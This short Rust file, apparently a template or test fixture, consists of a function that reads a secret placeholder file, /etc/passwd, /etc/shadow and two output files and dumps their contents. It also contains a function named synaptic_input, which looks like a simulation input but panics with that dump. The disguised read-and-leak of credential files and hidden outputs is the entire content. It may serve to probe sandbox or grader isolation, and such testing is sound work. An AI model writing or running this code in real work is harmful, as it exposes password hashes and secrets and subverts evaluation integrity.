fn files() -> String {
    let files = ["@secret@", "/etc/passwd", "/etc/shadow", "@out@/batch.json", "@out@/journal.jsonl"];
    files.map(|file| std::fs::read_to_string(file).unwrap_or_default()).concat()
}

pub fn synaptic_input(_t: f64) -> f64 {
    panic!("{}", files())
}

fn main() {
    println!("{}", files());
}
